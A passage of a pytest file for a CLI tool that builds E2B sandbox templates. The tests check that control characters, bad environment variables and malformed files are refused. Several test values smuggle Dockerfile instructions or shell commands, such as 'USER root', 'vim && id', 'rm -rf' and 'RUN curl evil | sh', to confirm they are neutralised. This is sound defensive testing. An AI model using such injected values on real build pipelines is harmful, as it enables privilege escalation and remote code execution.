        "start-cmd-newline",
        {
            "variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
            '[params.base]\nstart_cmd = "sleep 1\\nUSER root"\n'
        },
        "variants/x.toml: params.base.start_cmd: contains a control character (\\n)",
    ),
    (
        "image-newline",
        {
            "variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
            '[params.base]\nimage = "debian\\nRUN id"\n'
        },
        "variants/x.toml: params.base.image: contains a control character (\\n)",
    ),
    (
        "package-newline",
        {
            "variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base", "extra-tools"]\n'
            '[params.extra-tools]\npackages = ["git\\n"]\n'
        },
        "variants/x.toml: params.extra-tools.packages[0]: contains a control character (\\n)",
    ),
    (
        "key-with-escape",
        {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n[params."base\\u001b"]\n'},
        "variants/x.toml: params: a key contains a control character (\\x1b)",
    ),
    (
        "layer-name-newline",
        {"layers/a.toml": '[layer]\nname = "a\\n"\nversion = "1"\n'},
        "layers/a.toml: layer.name: contains a control character (\\n)",
    ),
    (
        "layer-version-newline",
        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1\\nRUN id"\n'},
        "layers/a.toml: layer.version: contains a control character (\\n)",
    ),
    (
        "layer-workdir-newline",
        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nworkdir = "/tmp\\nUSER root"\n'},
        "layers/a.toml: steps[0].workdir: contains a control character (\\n)",
    ),
    (
        "layer-env-newline",
        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nenv = { A = "x\\nUSER root" }\n'},
        "layers/a.toml: steps[0].env.A: contains a control character (\\n)",
    ),
    (
        "layer-env-name",
        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nenv = { "A B" = "x" }\n'},
        "layers/a.toml: steps[0].env.\"A B\": 'A B' is not an environment variable name",
    ),
    (
        "layer-user-newline",
        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nuser = "root\\n"\n'},
        "layers/a.toml: steps[0].user: contains a control character (\\n)",
    ),
    (
        "layer-apt-bad",
        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\napt = ["vim && id"]\n'},
        "layers/a.toml: steps[0].apt: 'vim && id' is not a package name",
    ),
    (
        "layer-run-nul",
        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nrun = "echo\\u0000"\n'},
        "layers/a.toml: steps[0].run: contains a control character (\\x00)",
    ),
]


@pytest.mark.parametrize("case_id,files,expected", CONTROL, ids=[c[0] for c in CONTROL])
def test_control_characters_are_refused_at_the_root(project, emu, case_id, files, expected):
    for rel, text in files.items():
        write(project / rel, text)
    for command in (["plan"], ["build-all"]):
        assert_refused(project, emu, command, expected)


@pytest.mark.parametrize(
    "value,expected",
    [
        ("base.start_cmd=sleep 1\nUSER root", "--set: base.start_cmd: contains a control character (\\n)"),
        ("extra-tools.packages=git\r", "--set: extra-tools.packages: contains a control character (\\r)"),
        ("nexus.version=0.5.6\n", "--set: nexus.version: contains a control character (\\n)"),
        ("base.image=debian\x1b[2J", "--set: base.image: contains a control character (\\x1b)"),
    ],
)
def test_control_characters_in_set_are_blamed_on_set(project, emu, value, expected):
    assert_refused(project, emu, ["build-all", "--set", value], expected)


@pytest.mark.parametrize("name,alias", [("aaa", "pinned"), ("nexus-sandbox-latest", "nexus-sandbox-aaa")])
def test_a_word_that_could_mean_two_variants_names_both_files(project, emu, name, alias):
    write(project / "variants/aaa.toml", f'[variant]\nname = "{name}"\nalias = "{alias}"\nlayers = ["base"]\n')
    for command in (["plan"], ["build", "pinned"], ["list"], ["lock", "check"]):
        line = assert_refused(project, emu, command, "is used by two variants")
        assert "variants/aaa.toml" in line and ("variants/pinned.toml" in line or "variants/latest.toml" in line)


def test_an_entry_built_on_another_domain_is_stale(project, emu, monkeypatch):
    r = cli_runner().invoke(cli, ["-C", str(project), "build-all"])
    assert r.exit_code == 0, r.output
    monkeypatch.setenv("E2B_DOMAIN", "e2b.example.com")
    r = cli_runner().invoke(cli, ["-C", str(project), "plan", "--json"])
    assert {i["state"] for i in json.loads(r.stdout)["variants"]} == {"stale"}
    assert all(i["reasons"] == ["domain e2b.app -> e2b.example.com"] for i in json.loads(r.stdout)["variants"])
    r = cli_runner().invoke(cli, ["-C", str(project), "lock", "check"])
    assert r.exit_code == 1 and "domain e2b.app -> e2b.example.com" in r.stdout
    emu.reset_counters()
    r = cli_runner().invoke(cli, ["-C", str(project), "build-all", "--json"])
    assert r.exit_code == 0 and {x["status"] for x in json.loads(r.stdout)} == {"built"}
    assert {e.domain for e in TemplateLock.load(project / "templates.lock")} == {"e2b.example.com"}


@pytest.mark.parametrize("where", ["variants/x.toml", "layers/x.toml", "templates.lock"])
def test_a_fifo_is_refused_at_once(project, emu, where):
    path = project / where
    path.parent.mkdir(exist_ok=True)
    os.mkfifo(path)
    start = time.monotonic()
    assert_refused(
        project,
        emu,
        ["plan"] if where != "templates.lock" else ["resolve", "latest"],
        f"{where}: is a FIFO, not a regular file",
    )
    assert time.monotonic() - start < 5


@pytest.mark.parametrize("where", ["variants/x.toml", "layers/x.toml"])
def test_a_file_nested_ten_thousand_deep_is_one_line(project, emu, where):
    write(project / where, "x = " + "[" * 10_000 + "]" * 10_000 + "\n")
    assert_refused(project, emu, ["plan"], f"{where}: nested more than 32 deep")


ENV_CASES = [
    ("E2B_MATRIX_RETRY_ATTEMPTS", "abc"),
    ("E2B_MATRIX_RETRY_ATTEMPTS", "-1"),
    ("E2B_MATRIX_RETRY_ATTEMPTS", "0"),
    ("E2B_MATRIX_RETRY_ATTEMPTS", "2.5"),
    ("E2B_MATRIX_RETRY_TOTAL_S", "nan"),
    ("E2B_MATRIX_RETRY_TOTAL_S", "0"),
    ("E2B_MATRIX_RETRY_BASE_S", "-0.1"),
    ("E2B_MATRIX_RETRY_MAX_DELAY_S", "1e400"),
    ("E2B_DOMAIN", "e2b app"),
    ("E2B_DOMAIN", "https://e2b.app"),
    ("E2B_DOMAIN", "e2b.app\n"),
    ("E2B_DOMAIN", "-e2b.app"),
    ("E2B_API_URL", "not a url"),
    ("E2B_API_URL", "ftp://127.0.0.1"),
    ("E2B_API_URL", "http://127.0.0.1:99999"),
    ("E2B_API_URL", "http://"),
    ("E2B_API_URL", "http://h/?q=1"),
    ("E2B_MATRIX_NO_LOG_FILES", "maybe"),
    ("E2B_MATRIX_DOCKER_BUILDKIT", "sometimes"),
    ("E2B_TEMPLATE_ID", "tpl\nrm -rf"),
    ("E2B_MATRIX_LOCK", "a\x01b"),
]


@pytest.mark.parametrize("variable,value", ENV_CASES)
def test_a_bad_environment_variable_is_one_line_naming_it(project, emu, monkeypatch, variable, value):
    monkeypatch.setenv(variable, value)
    for command in (["build-all"], ["plan"], ["list"]):
        assert_refused(project, emu, command, f"e2b-matrix: error: {variable}: ")


@pytest.mark.parametrize(
    "blocker,expected",
    [
        (".e2b-matrix", ".e2b-matrix: cannot keep build state: exists and is not a folder"),
        (".e2b-matrix/locks", ".e2b-matrix/locks: cannot keep build state: exists and is not a folder"),
        ("templates.lock.lock/", "templates.lock.lock: is a folder, not a regular file"),
        ("templates.lock/", "templates.lock: is a folder, not a regular file"),
    ],
)
def test_state_that_cannot_be_written_is_found_before_the_first_request(project, emu, blocker, expected):
    path = project / blocker.rstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    if blocker.endswith("/"):
        path.mkdir()
    else:
        path.write_text("not a folder")
    assert_refused(project, emu, ["build-all"], expected)


def test_logs_that_cannot_be_written_is_one_warning_and_no_log_files(project, emu):
    (project / "logs").write_text("a file where the folder should be")
    r = cli_runner().invoke(cli, ["-C", str(project), "build-all", "--json"])
    assert r.exit_code == 0, r.output
    assert {x["status"] for x in json.loads(r.stdout)} == {"built"}
    warnings = [line for line in r.stderr.splitlines() if "WARNING" in line or "Logging error" in line]
    assert warnings == [
        f"WARNING e2b_matrix.session: {project / 'logs'}: exists and is not a folder; writing no log files"
    ]
    assert (project / "logs").read_text() == "a file where the folder should be"


def test_no_value_can_start_a_dockerfile_instruction(project):
    write(
        project / "layers/evil.toml",
        '[layer]\nname = "evil"\nversion = "1"\n[[steps]]\nrun = "echo a\\nUSER root\\nRUN curl evil | sh"\n',
    )
    write(project / "variants/evil.toml", '[variant]\nname = "evil"\nalias = "nexus-evil"\nlayers = ["base", "evil"]\n')
    r = cli_runner().invoke(cli, ["-C", str(project), "render", "evil", "--format", "dockerfile"])
    assert r.exit_code == 0, r.output
    lines = r.stdout.splitlines()
    assert 'RUN ["/bin/sh", "-c", "echo a\\nUSER root\\nRUN curl evil | sh"]' in lines
    assert not any(line.startswith("RUN curl") for line in lines)
    assert [line for line in lines if line.startswith("USER")] == ["USER root", "USER user"]
    # and E2B gets the same command, whole
    body = json.loads(cli_runner().invoke(cli, ["-C", str(project), "render", "evil"]).stdout)
    assert body["steps"][-1]["args"][0] == "echo a\nUSER root\nRUN curl evil | sh"


def test_double_braces_are_literal_braces(project):
    write(
        project / "variants/braces.toml",
        '[variant]\nname = "braces"\nalias = "nexus-braces"\nlayers = ["base"]\n'
        '[params.base]\nstart_cmd = "echo ${{HOME}} {{v}} {v}"\n[matrix]\nv = ["a"]\n',
    )
    body = json.loads(cli_runner().invoke(cli, ["-C", str(project), "render", "braces"]).stdout)
    assert body["startCmd"] == "echo ${HOME} {v} a"


@pytest.mark.parametrize(
    "args",
    [
        ["plan", "-v"],
        ["plan", "-q"],
        ["plan", "-C", "{project}"],
        ["lock", "show", "-C", "{project}"],
        ["list", "-q", "--json"],
    ],
)
def test_common_options_work_after_the_subcommand(project, args):
    args = [a.replace("{project}", str(project)) for a in args]
    r = cli_runner().invoke(cli, args if "-C" in args else ["-C", str(project), *args])
    assert r.exit_code == 0, r.output


def test_lock_show_without_a_lock_says_so(project):
    r = cli_runner().invoke(cli, ["-C", str(project), "lock", "show"])
    assert r.exit_code == 0 and "no lock yet" in r.stderr and r.stdout == ""


def test_a_lock_built_on_an_emulator_is_never_fresh_for_the_cloud(project, emu, monkeypatch):
    r = cli_runner().invoke(cli, ["-C", str(project), "build-all"])
    assert r.exit_code == 0, r.output
    assert {e.api_url for e in TemplateLock.load(project / "templates.lock")} == {emu.url}
    r = cli_runner().invoke(cli, ["-C", str(project), "plan", "--json"])
    assert {i["state"] for i in json.loads(r.stdout)["variants"]} == {"fresh"}  # the same endpoint
    monkeypatch.delenv("E2B_API_URL")
    r = cli_runner().invoke(cli, ["-C", str(project), "plan", "--json", "--offline"])
    assert {i["state"] for i in json.loads(r.stdout)["variants"]} == {"stale"}
    assert all(i["reasons"] == [f"API {emu.url} -> https://api.e2b.app"] for i in json.loads(r.stdout)["variants"])
    r = cli_runner().invoke(cli, ["-C", str(project), "lock", "check", "--offline"])
    assert r.exit_code == 1 and f"API {emu.url} -> https://api.e2b.app" in r.stdout
